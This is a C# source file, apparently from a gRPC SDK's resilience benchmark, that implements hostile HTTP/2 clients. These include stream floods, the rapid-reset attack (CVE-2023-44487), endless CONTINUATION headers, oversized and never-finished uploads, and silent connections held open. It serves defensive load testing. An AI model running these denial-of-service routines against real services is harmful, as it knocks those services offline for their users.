// What hostile clients do to a host. Each returns what became of it; who measures the host meanwhile is elsewhere.

using System.Globalization;
using System.Net;
using Acme.Chat.V1;
using Grpc.Core;

namespace GrpcSdk.Bench.Load.Hostile;

internal static class Attacks
{
    private const string Chat = "/acme.chat.v1.ChatService/Chat";
    private const string Upload = "/acme.uploads.v1.UploadService/UploadImages";
    private static readonly TimeSpan Unreachable = TimeSpan.FromMinutes(2);

    /// <summary>One client opens chat streams, each in a room of its own, and keeps them all open at once.</summary>
    /// <param name="host">Where to.</param>
    /// <param name="count">How many.</param>
    /// <param name="meanwhile">What happens while all that were accepted are open.</param>
    /// <param name="from">The address that the host sees; null for 127.0.0.1.</param>
    public static async Task<Tally> StreamsAsync(Uri host, int count, Func<Task>? meanwhile = null, IPAddress? from = null)
    {
        using var channel = Channels.Open(host, from);
        var client = new ChatService.ChatServiceClient(channel);
        var joins = new Tally("streams");
        var calls = Enumerable.Range(0, count).Select(_ => client.Chat()).ToList();
        await Task.WhenAll(calls.Select((call, i) => joins.CallAsync(async () =>
        {
            try
            {
                await call.RequestStream.WriteAsync(new ChatMessage { UserId = "hostile", RoomId = $"streams-{i}", Kind = ChatMessage.Types.Kind.Join });
            }
            catch (Exception exception) when (exception is RpcException or InvalidOperationException)
            {
                // The status comes with the response.
            }

            await call.ResponseStream.MoveNext(CancellationToken.None);
        })));
        await (meanwhile?.Invoke() ?? Task.CompletedTask);
        calls.ForEach(call => call.Dispose());
        return joins;
    }

    /// <summary>One connection opens streams without regard to how many it may.</summary>
    /// <returns>How many frames of each type the host sent before it closed the connection, or answered every stream.</returns>
    public static async Task<Dictionary<FrameType, int>> FloodAsync(Uri host, int count)
    {
        using var connection = await RawConnection.ConnectAsync(host);
        await connection.OpenAsync();
        var reading = connection.ReadToEndAsync();
        var headers = RawConnection.CallHeaders(Chat);
        await WriteStreamsAsync(connection, count, stream => RawConnection.Frame(FrameType.Headers, RawConnection.EndHeaders, stream, headers));
        return await EndAsync(connection, reading);
    }

    /// <summary>One connection opens streams and resets each at once (CVE-2023-44487).</summary>
    /// <returns>As of <see cref="FloodAsync"/>.</returns>
    public static async Task<Dictionary<FrameType, int>> ResetsAsync(Uri host, int count)
    {
        using var connection = await RawConnection.ConnectAsync(host);
        await connection.OpenAsync();
        var reading = connection.ReadToEndAsync();
        var headers = RawConnection.CallHeaders(Chat);
        await WriteStreamsAsync(connection, count, stream =>
        [
            .. RawConnection.Frame(FrameType.Headers, RawConnection.EndHeaders, stream, headers),
            .. RawConnection.Frame(FrameType.ResetStream, 0, stream, [0, 0, 0, 8]),
        ]);
        return await EndAsync(connection, reading);
    }

    /// <summary>Metadata that never end: one header block in frame after frame.</summary>
    /// <returns>How many bytes were sent before the host closed the connection, or the most that was to be sent.</returns>
    public static async Task<long> MetadataAsync(Uri host, long most)
    {
        using var connection = await RawConnection.ConnectAsync(host);
        await connection.OpenAsync();
        var reading = connection.ReadToEndAsync();
        var (sent, more) = (0L, RawConnection.CallHeaders(Chat, more: 8 << 10));
        var frame = RawConnection.Frame(FrameType.Headers, 0, stream: 1, more);
        while (sent < most && !reading.IsCompleted && await connection.TryWriteAsync(frame))
        {
            sent += frame.Length;
            frame = RawConnection.Frame(FrameType.Continuation, 0, stream: 1, more.AsSpan(more.Length - 8100));
        }

        return sent;
    }

    /// <summary>Calls with a message that is too large, many at once.</summary>
    /// <returns>How often each status of gRPC came.</returns>
    public static async Task<Dictionary<string, int>> MessagesAsync(Uri host, int count, Func<GrpcBody> body)
    {
        using var http = new HttpMessageInvoker(Channels.Handler());
        return Count(await Task.WhenAll(Enumerable.Range(0, count).Select(_ => body().CallAsync(http, host, Upload))));
    }

    /// <summary>Calls each of which sends all of a message but its last byte, and waits until enough were refused.</summary>
    /// <param name="host">Where to.</param>
    /// <param name="count">How many.</param>
    /// <param name="length">Length of a message, in bytes.</param>
    /// <param name="refusals">How many must be refused.</param>
    /// <param name="from">The address that the host sees; null for 127.0.0.1.</param>
    /// <returns>How often each status of gRPC came, the calls that were not refused being "reset".</returns>
    public static async Task<Dictionary<string, int>> UnfinishedAsync(Uri host, int count, int length, int refusals, IPAddress? from = null)
    {
        using var http = new HttpMessageInvoker(Channels.Handler(from));
        var enough = new TaskCompletionSource();
        var statuses = await Task.WhenAll(Enumerable.Range(0, count).Select(async _ =>
        {
            var status = await GrpcBody.Unfinished(length, enough.Task.WaitAsync(Unreachable)).CallAsync(http, host, Upload);
            if (Interlocked.Decrement(ref refusals) == 0)
            {
                enough.TrySetResult();
            }

            return status;
        }));
        return Count(statuses);
    }

    /// <summary>Connections that stay open and say nothing, only that they are HTTP/2, or half of what they want.</summary>
    /// <returns>How many the host closed.</returns>
    public static async Task<int> SilentAsync(Uri host, int count)
    {
        var half = RawConnection.Frame(FrameType.Headers, 0, stream: 1, RawConnection.CallHeaders(Chat));
        var closed = await Task.WhenAll(Enumerable.Range(0, count).Select(async i =>
        {
            using var connection = await RawConnection.ConnectAsync(host);
            if (i % 3 > 0)
            {
                await connection.OpenAsync();
            }

            if (i % 3 > 1)
            {
                await connection.TryWriteAsync(half);
            }

            await connection.ReadToEndAsync().WaitAsync(Unreachable);
            return 1;
        }));
        return closed.Sum();
    }

    private static async Task WriteStreamsAsync(RawConnection connection, int count, Func<int, byte[]> frames)
    {
        // Streams of clients have odd numbers.
        for (var i = 0; i < count && await connection.TryWriteAsync(frames((2 * i) + 1)); i++)
        {
        }
    }

    // Says good-bye, so that the host ends the connection when it has dealt with everything.
    private static async Task<Dictionary<FrameType, int>> EndAsync(RawConnection connection, Task<Dictionary<FrameType, int>> reading)
    {
        await connection.TryWriteAsync(RawConnection.Frame(FrameType.GoAway, 0, stream: 0, new byte[8]));
        connection.Finish();
        return await reading.WaitAsync(Unreachable);
    }

    private static Dictionary<string, int> Count(string?[] statuses) =>
        statuses.CountBy(status => status is null ? "reset" : $"{(StatusCode)int.Parse(status, CultureInfo.InvariantCulture)}").ToDictionary();
}
